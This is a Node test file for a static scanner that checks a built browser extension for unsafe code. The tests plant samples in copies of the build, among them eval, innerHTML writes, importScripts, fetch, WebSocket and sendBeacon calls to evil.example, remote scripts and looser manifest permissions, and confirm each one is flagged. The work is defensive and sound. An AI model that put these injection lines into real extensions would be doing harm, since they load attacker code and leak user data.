// The static scan of the built extension (tools/scan_dist.mjs): passes on dist, and fails, naming file
// and line, on copies of dist poisoned with each kind of code it must refuse. Run after ./build.sh:
//   node --test tests/static/
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { scan, lex } from '../../tools/scan_dist.mjs';
import { built as builtDirs, onPoisonedCopy, append, manifest } from './poison.mjs';

const ROOT = new URL('../..', import.meta.url).pathname;
const DIST = ['chromium', 'firefox'].map((b) => join(ROOT, 'dist', b));
const SCANNER = join(ROOT, 'tools', 'scan_dist.mjs');

const built = () => builtDirs(...DIST);
/** The findings on a throw-away copy of dist/<browser> changed by `poison`. */
const scanPoisoned = (browser, poison) => onPoisonedCopy(join(ROOT, 'dist', browser), poison, (dir) => scan([dir]).findings);

const lines = (dir, file) => readFileSync(join(dir, file), 'utf8').split('\n').length;

test('the built extension has no findings', () => {
  built();
  const { findings, checked } = scan(DIST);
  assert.deepEqual(findings, []);
  assert.equal(checked.length, 2);
  for (const c of checked) assert.match(c, /WebAssembly \(\d+ imports/);
});

test('the command line exits 1 and names file and line on a finding', () => {
  built();
  const chromium = join(ROOT, 'dist', 'chromium');
  const line = lines(chromium, 'content/banner.js') + 1;
  const r = onPoisonedCopy(chromium, append('content/banner.js', 'eval("1");'),
    (dir) => spawnSync(process.execPath, [SCANNER, dir], { encoding: 'utf8' }));
  assert.equal(r.status, 1, r.stdout + r.stderr);
  assert.match(r.stderr, new RegExp(`content/banner\\.js:${line}: eval\\(`));
  const ok = spawnSync(process.execPath, [SCANNER, ...DIST], { encoding: 'utf8', cwd: ROOT });
  assert.equal(ok.status, 0, ok.stdout + ok.stderr);
  assert.match(ok.stdout, /no findings/);
});

const POISONS = [
  ['eval("1")', append('content/banner.js', 'eval("1");'), /banner\.js:\d+: eval\(/],
  ['innerHTML =', append('content/banner.js', 'document.body.innerHTML = "<b>x</b>";'), /banner\.js:\d+: assignment to innerHTML/],
  ['outerHTML +=', append('popup/popup.js', 'document.body.outerHTML += "x";'), /popup\.js:\d+: assignment to outerHTML/],
  ['insertAdjacentHTML', append('content/banner.js', 'document.body.insertAdjacentHTML("beforeend", "<i>");'), /insertAdjacentHTML/],
  ['document.write', append('popup/popup.js', 'document.write("<p>");'), /document\.write/],
  ['new Function', append('background/background.js', 'const f = new Function("return 1");'), /new Function/],
  ['setTimeout with a string', append('background/background.js', "setTimeout('go()', 10);"), /setTimeout with a string/],
  ['setInterval with a template', append('content/banner.js', 'setInterval(`go()`, 10);'), /setInterval with a string/],
  ['remote importScripts', append('background/background.js', "importScripts('https://evil.example/x.js');"), /importScripts of a non-relative URL/],
  ['fetch of a URL', append('background/background.js', "fetch('https://evil.example/rules.json');"), /fetch\(/],
  ['fetch in the glue of another URL', append('core/widerspruch.js', 'fetch(remote_url);'), /widerspruch\.js:\d+: fetch\(remote_url/],
  ['XMLHttpRequest', append('content/banner.js', 'const x = new XMLHttpRequest();'), /network API XMLHttpRequest/],
  ['WebSocket', append('background/background.js', "new WebSocket('wss://evil.example/');"), /network API WebSocket/],
  ['EventSource', append('background/background.js', "new EventSource('/x');"), /network API EventSource/],
  ['sendBeacon', append('content/banner.js', "navigator.sendBeacon('https://evil.example/', 'x');"), /sendBeacon/],
  ['dynamic import', append('background/background.js', "import('https://evil.example/m.js');"), /dynamic import/],
  ['wasm loaded from elsewhere', append('popup/popup.js', "wasm_bindgen({ module_or_path: 'https://evil.example/x.wasm' });"), /module_or_path: ext\.url/],
  ["a build machine's path in the WebAssembly", (dir) => {
    const p = join(dir, 'core', 'widerspruch_bg.wasm');
    writeFileSync(p, Buffer.concat([readFileSync(p), Buffer.from('/home/builder/.cargo/registry/src/x.rs')]));
  }, /widerspruch_bg\.wasm:0: names a path of the machine that built it/],
  ['inline script', (dir) => {
    const p = join(dir, 'popup', 'popup.html');
    writeFileSync(p, readFileSync(p, 'utf8').replace('</body>', '<script>alert(1)</script></body>'));
  }, /popup\.html:\d+: inline <script>/],
  ['remote script', (dir) => {
    const p = join(dir, 'popup', 'popup.html');
    writeFileSync(p, readFileSync(p, 'utf8').replace('</head>', '<script src="https://evil.example/x.js"></script></head>'));
  }, /remote script/],
  ['a third permission', manifest((m) => m.permissions.push('tabs')), /permissions \["storage","scripting","tabs"\]/],
  ['an optional host beyond the services', manifest((m) => { m.optional_host_permissions.push('https://*.example.org/*'); }), /optional_host_permissions/],
  ['a service host missing', manifest((m) => { m.optional_host_permissions.pop(); }), /optional_host_permissions/],
  ['host_permissions', manifest((m) => { m.host_permissions = ['<all_urls>']; }), /has "host_permissions"/],
  ['externally_connectable', manifest((m) => { m.externally_connectable = { matches: ['https://*.facebook.com/*'] }; }), /externally_connectable/],
  ['a looser CSP', manifest((m) => { m.content_security_policy.extension_pages = "script-src 'self' 'unsafe-eval'; object-src 'self'"; }), /content_security_policy/],
  ['a content script beyond Meta', manifest((m) => m.content_scripts[0].matches.push('<all_urls>')), /reaches beyond/],
  ['a remote background script', manifest((m) => {
    if (m.background.service_worker) m.background.service_worker = 'https://evil.example/sw.js';
    else m.background.scripts.push('https://evil.example/bg.js');
  }), /loads a remote file/],
];

for (const [name, poison, want] of POISONS) {
  test(`refuses ${name}`, () => {
    built();
    const findings = scanPoisoned('chromium', poison);
    assert.ok(findings.some((f) => want.test(f)), `expected a finding like ${want}, got:\n${findings.join('\n')}`);
  });
}

test('the Firefox data-collection declaration is checked', () => {
  built();
  const findings = scanPoisoned('firefox', manifest((m) => { m.browser_specific_settings.gecko.data_collection_permissions = { required: ['browsingActivity'] }; }));
  assert.ok(findings.some((f) => /data_collection_permissions/.test(f)), findings.join('\n'));
});

test('comments and strings do not count as code; the line is right', () => {
  const { bare, code } = lex('// eval(x)\n/* new Function() */ const s = "innerHTML = 1";\nx.innerHTML = s; const r = /eval\\(/;\n`a ${eval(1)} b`');
  assert.doesNotMatch(bare.split('\n')[0], /eval/);
  assert.doesNotMatch(bare.split('\n')[1], /Function|innerHTML/);
  assert.match(bare.split('\n')[2], /x\.innerHTML = /);
  assert.doesNotMatch(bare.split('\n')[2], /eval/, 'regex literal text is not code');
  assert.match(bare.split('\n')[3], /eval\(1\)/, 'template expressions are code');
  assert.equal(code.split('\n').length, 4);
});
